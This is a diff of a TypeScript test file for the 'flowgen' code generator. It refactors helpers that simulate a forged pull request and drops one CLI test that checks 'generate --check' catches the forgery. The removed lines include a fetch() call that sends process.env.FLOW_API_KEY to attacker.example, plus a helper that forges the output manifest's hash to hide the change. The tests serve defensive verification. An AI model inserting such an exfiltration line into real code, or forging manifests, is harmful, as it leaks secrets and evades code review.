@@ -1,46 +1,14 @@
-import { execFile } from "node:child_process";
 import { createHash } from "node:crypto";
-import { cp, mkdir, readFile, rm, writeFile } from "node:fs/promises";
+import { mkdir, readFile, rm, writeFile } from "node:fs/promises";
 import path from "node:path";
-import { promisify } from "node:util";
 import { describe, expect, it, vi } from "vitest";
 import { check, generate } from "../src/api/generate.js";
 import { MANIFEST_PATH, type OutputManifest } from "../src/manifest/output-manifest.js";
+import { authorsProject, freshClone, injectWithForgedManifest } from "./helpers/forged-clone.js";
 import { runCli } from "./helpers/run-cli.js";
-import {
-  copyProject,
-  REPO_ROOT,
-  sharedProject,
-  tempProject,
-  writeFiles,
-} from "./helpers/temp-dir.js";
+import { copyProject } from "./helpers/temp-dir.js";
 
-const run = promisify(execFile);
 const CACHE_DIR = "node_modules/.cache/flowgen";
-const INJECTED = 'fetch("https://attacker.example/" + process.env.FLOW_API_KEY);\n';
-
-/** The repo's flows the author's project holds. */
-const FLOWS = ["@acme/qa.json", "@acme/search.json"];
-
-/**
- * Two of the repo's flows, generated with the default render cache: the author's machine. Made
- * once for the file; tests read it, and work on copies.
- */
-const authorsProject = sharedProject(async (dir) => {
-  await writeFiles(dir, { "package.json": { name: "consumer", private: true } });
-  for (const flow of FLOWS)
-    await cp(path.join(REPO_ROOT, "specs", flow), path.join(dir, "specs", flow));
-  const result = await generate({ cwd: dir, config: false });
-  if (!result.ok) throw new Error(JSON.stringify(result.issues));
-});
-
-/** What a reviewer's machine or CI checks out: the committed files only (no node_modules, so no render cache). */
-async function freshClone(from: string): Promise<string> {
-  const dir = await tempProject({});
-  for (const name of ["package.json", "specs", "generated"])
-    await cp(path.join(from, name), path.join(dir, name), { recursive: true });
-  return dir;
-}
 
 /** The render cache a project's runs left: its index (format line, MAC, entries) and pack. */
 async function readCache(dir: string) {
@@ -55,19 +23,6 @@ async function writeCache(dir: string, indexText: string, pack: Buffer): Promise
   await mkdir(path.join(dir, CACHE_DIR), { recursive: true });
   await writeFile(path.join(dir, CACHE_DIR, "render-cache.pack"), pack);
   await writeFile(path.join(dir, CACHE_DIR, "render-cache.json"), indexText);
-}
-
-/** A pull request's forgery: a line added to a client, and that file's new hash put into the manifest. */
-async function injectWithForgedManifest(dir: string): Promise<void> {
-  const client = path.join(dir, "generated/@acme/qa.ts");
-  const injected = `${await readFile(client, "utf8")}${INJECTED}`;
-  await writeFile(client, injected);
-  const manifestFile = path.join(dir, "generated", MANIFEST_PATH);
-  const manifest = JSON.parse(await readFile(manifestFile, "utf8")) as OutputManifest;
-  const output = createHash("sha256").update(injected).digest("hex");
-  const entry = { inputs: manifest.files["@acme/qa.ts"]?.inputs ?? "", output };
-  const files = { ...manifest.files, "@acme/qa.ts": entry };
-  await writeFile(manifestFile, `${JSON.stringify({ ...manifest, files }, null, 2)}\n`);
 }
 
 describe("the committed manifest is no evidence of what generated/ holds", () => {
@@ -87,18 +42,6 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
     expect(generated.stdout).toContain("2 changed");
     expect(await readFile(path.join(clone, "generated/@acme/qa.ts"), "utf8")).toBe(pristine);
     expect((await runCli(clone, "generate", "--check")).code).toBe(0);
-  });
-
-  it("as a process, in CI: `flowgen generate --check` exits 1 on the forgery", async () => {
-    const clone = await freshClone(await authorsProject());
-    await injectWithForgedManifest(clone);
-    const bin = path.join(REPO_ROOT, "bin/flowgen.js");
-    const failed = await run(process.execPath, [bin, "generate", "--check"], { cwd: clone }).then(
-      () => undefined,
-      (error: { code: number; stderr: string }) => error,
-    );
-    expect(failed?.code).toBe(1);
-    expect(failed?.stderr).toContain("changed  generated/@acme/qa.ts");
   });
 
   it("a render cache committed into the project is not taken as this machine's", async () => {
